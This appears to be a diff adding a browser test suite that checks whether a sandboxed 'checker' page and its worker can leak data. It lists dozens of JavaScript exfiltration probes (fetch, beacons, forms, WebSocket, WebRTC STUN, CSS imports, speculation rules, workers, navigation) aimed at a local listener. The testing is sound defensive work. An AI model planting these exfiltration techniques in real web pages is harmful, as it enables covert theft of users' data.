@@ -1,0 +1,207 @@
+"""Whoever got hold of the checker page's own frame, or of its worker, still could not send anything anywhere."""
+
+import re
+import socket
+import threading
+import time
+
+import pytest
+
+from pipelines.checker.build import FILE_NAME, SANDBOX, build
+from tests.browser.checker import opened
+
+pytestmark = pytest.mark.xdist_group("checker")
+
+# Tried one after the other in the frame that sees the file; `to` is an address that listens.
+IN_THE_FRAME = {
+    "fetch": "fetch(to + '/x', {mode: 'no-cors'})",
+    "a request of old": "const r = new XMLHttpRequest(); r.open('POST', to); r.send('x')",
+    "a beacon": "navigator.sendBeacon(to, 'x')",
+    "a picture": "new Image().src = to",
+    "a picture on the page": "document.body.insertAdjacentHTML('beforeend', `<img src=${to}><svg><image href=${to} /></svg>`)",
+    "a form": "const f = made('form'); f.action = to; f.method = 'post'; f.submit()",
+    "a form in a new window": "const f = made('form'); f.action = to; f.target = '_blank'; f.submit()",
+    "a window": "window.open(to)",
+    "the outer page": "top.location = to",
+    "the outer page, by its address": "parent.location.href = to",
+    "a link to a new window": "const a = made('a'); a.href = to; a.target = '_blank'; a.click()",
+    "a link over the outer page": "const a = made('a'); a.href = to; a.target = '_top'; a.click()",
+    "a ping": "const a = made('a'); a.href = '#x'; a.ping = to; a.click()",
+    "a socket": "new WebSocket(to.replace('http', 'ws'))",
+    "a stream": "new EventSource(to)",
+    "a call": "const c = new RTCPeerConnection({iceServers: [{urls: `stun:${by_udp}`}]}); "
+    "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))",
+    "a call from a frame within": "const i = made('iframe'); i.srcdoc = '<p>'; setTimeout(() => { "
+    "const c = new i.contentWindow.RTCPeerConnection({iceServers: [{urls: `stun:${by_udp}`}]}); "
+    "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)) }, 300)",
+    "a transport": "new WebTransport(`https://${by_udp}/`)",
+    "a style sheet": "const l = made('link'); l.rel = 'stylesheet'; l.href = to",
+    "what may be wanted later": "for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest']) "
+    "{ const l = made('link'); l.rel = rel; l.as = 'image'; l.href = to }",
+    "a script": "const s = made('script'); s.src = to",
+    "a script within": "const s = made('script'); s.textContent = `fetch('${to}')`",
+    "rules of what to load": "const s = made('script'); s.type = 'speculationrules'; "
+    "s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [to], eagerness: 'immediate'}]})",
+    "a style": "made('style').textContent = "
+    "`@import url(${to}); body { background: url(${to}); } @font-face { font-family: x; src: url(${to}) }`",
+    "a style of the element": "document.body.style.backgroundImage = `url(${to})`",
+    "a module": "import(to)",
+    "a frame": "made('iframe').src = to",
+    "a frame of its own text": "made('iframe').srcdoc = "
+    "`<img src=${to}><meta http-equiv=refresh content='0;url=${to}'><script>fetch('${to}')</script>`",
+    "an object": "made('object').data = to",
+    "a thing embedded": "made('embed').src = to",
+    "a film": "const v = made('video'); v.src = to; v.autoplay = true",
+    "a worker from there": "new Worker(to)",
+    "a shared worker": "new SharedWorker(to)",
+    "a service worker": "navigator.serviceWorker.register(to)",
+}
+IN_A_WORKER = {
+    "fetch": "fetch(to, {mode: 'no-cors'})",
+    "the network's own fetch": "const w = new Worker(URL.createObjectURL(new Blob([`fetch('${to}', {mode: 'no-cors'})`])))",
+    "a request of old": "const r = new XMLHttpRequest(); r.open('POST', to, false); r.send('x')",
+    "a script": "importScripts(to)",
+    "a module": "import(to)",
+    "a socket": "new WebSocket(to.replace('http', 'ws'))",
+    "a stream": "new EventSource(to)",
+    "a transport": "new WebTransport(`https://${by_udp}/`)",
+    "a worker from there": "new Worker(to)",
+}
+# These end in a blocked frame: nothing is sent, and the outer page stays where it is.
+BY_LEAVING = {
+    "its own address": "location = to",
+    "a link": "const a = made('a'); a.href = to; a.click()",
+    "a link that saves": "const a = made('a'); a.href = to; a.download = 'x.csv'; a.click()",
+    "a refresh": "const m = made('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${to}`",
+    "the way of newer browsers": "navigation.navigate(to)",
+}
+STUN = b"\x00\x01\x00\x00"  # how a call begins
+MADE = "const made = (tag) => document.body.appendChild(document.createElement(tag));"
+# Later, and not in the debugger's own call, which browsers grant more than a page.
+RUN = "([to, by_udp, text]) => { setTimeout(() => { %s try { %s } catch (error) {} }, 0) }"
+
+
+class Listener:
+    """A place on this machine to which something could be sent; knows what came."""
+
+    def __init__(self) -> None:
+        self.came: list[bytes] = []
+        self._tcp, self._udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        for each in (self._tcp, self._udp):
+            each.bind(("127.0.0.1", 0))
+        self._tcp.listen(100)
+        threading.Thread(target=self._accept, daemon=True).start()
+        threading.Thread(target=self._receive, daemon=True).start()
+
+    @property
+    def address(self) -> str:
+        return f"http://127.0.0.1:{self._tcp.getsockname()[1]}"
+
+    @property
+    def by_udp(self) -> str:
+        return f"127.0.0.1:{self._udp.getsockname()[1]}"
+
+    def close(self) -> None:
+        self._tcp.close()
+        self._udp.close()
+
+    def _accept(self) -> None:
+        try:
+            while True:
+                threading.Thread(target=self._read, args=(self._tcp.accept()[0],), daemon=True).start()
+        except OSError:
+            return
+
+    def _read(self, connection: socket.socket) -> None:
+        with connection:
+            connection.settimeout(5)
+            try:
+                said = connection.recv(200)
+            except OSError:
+                return
+            if said:  # a connection over which nothing is said tells nothing
+                self.came.append(said)
+
+    def _receive(self) -> None:
+        try:
+            while True:
+                self.came.append(self._udp.recvfrom(200)[0])
+        except OSError:
+            return
+
+
+@pytest.fixture
+def listener():
+    listener = Listener()
+    yield listener
+    listener.close()
+
+
+@pytest.fixture(scope="module")
+def checker(tmp_path_factory):
+    path = tmp_path_factory.mktemp("checker") / FILE_NAME
+    path.write_bytes(build())
+    return path
+
+
+def tried(place, listener, probe):
+    place.evaluate(RUN % (MADE if hasattr(place, "locator") else "", probe), [listener.address, listener.by_udp, ""])
+
+
+@pytest.fixture(scope="module")
+def unprotected(checker):
+    """The same page without its policy and sandbox: what it would be if it had neither."""
+    text = checker.read_text(encoding="utf-8")
+    path = checker.with_name("unprotected.html")
+    path.write_text(
+        re.sub("<meta http-equiv=.Content-Security-Policy.*?>", "", text, count=1).replace(f'sandbox="{SANDBOX}"', "", 1), "utf-8"
+    )
+    return path
+
+
+def heard(listener, wanted, seconds=20):
+    """Whether as many different things have come, before long."""
+    until = time.monotonic() + seconds
+    while time.monotonic() < until and not wanted <= {said[:4] for said in listener.came}:
+        time.sleep(0.1)
+    return wanted <= {said[:4] for said in listener.came}
+
+
+def test_without_policy_and_sandbox_the_same_frame_would_be_heard(browser, unprotected, listener):
+    with opened(browser, unprotected) as desk:
+        # Its script took the way of calls away; a new frame has it again.
+        for name in ("fetch", "a beacon", "a picture", "a socket", "a call from a frame within"):
+            tried(desk.frame, listener, IN_THE_FRAME[name])
+        assert heard(listener, {b"GET ", b"POST", STUN})
+
+
+def test_nothing_that_the_frame_tries_goes_out_and_the_page_is_still_there(browser, checker, listener):
+    with opened(browser, checker) as desk:
+        for probe in IN_THE_FRAME.values():
+            tried(desk.frame, listener, probe)
+            desk.page.wait_for_timeout(30)
+        desk.page.wait_for_timeout(2000)
+        assert listener.came == []
+        assert desk.page.url == checker.as_uri() and len(desk.page.context.pages) == 1
+        assert desk.at("#file").is_visible()
+
+
+def test_nothing_that_a_worker_tries_goes_out(browser, checker, listener):
+    with opened(browser, checker) as desk:
+        desk.wait_until_ready()
+        (worker,) = desk.page.workers
+        for probe in IN_A_WORKER.values():
+            tried(worker, listener, probe)
+        desk.page.wait_for_timeout(1500)
+        assert listener.came == []
+        assert desk.at("#file").is_visible()
+
+
+def test_a_frame_that_leaves_reaches_nothing(browser, checker, listener):
+    for probe in BY_LEAVING.values():
+        with opened(browser, checker) as desk:
+            tried(desk.frame, listener, probe)
+            desk.page.wait_for_timeout(400)
+            assert desk.page.url == checker.as_uri() and len(desk.page.context.pages) == 1
+    time.sleep(0.5)
+    assert listener.came == []
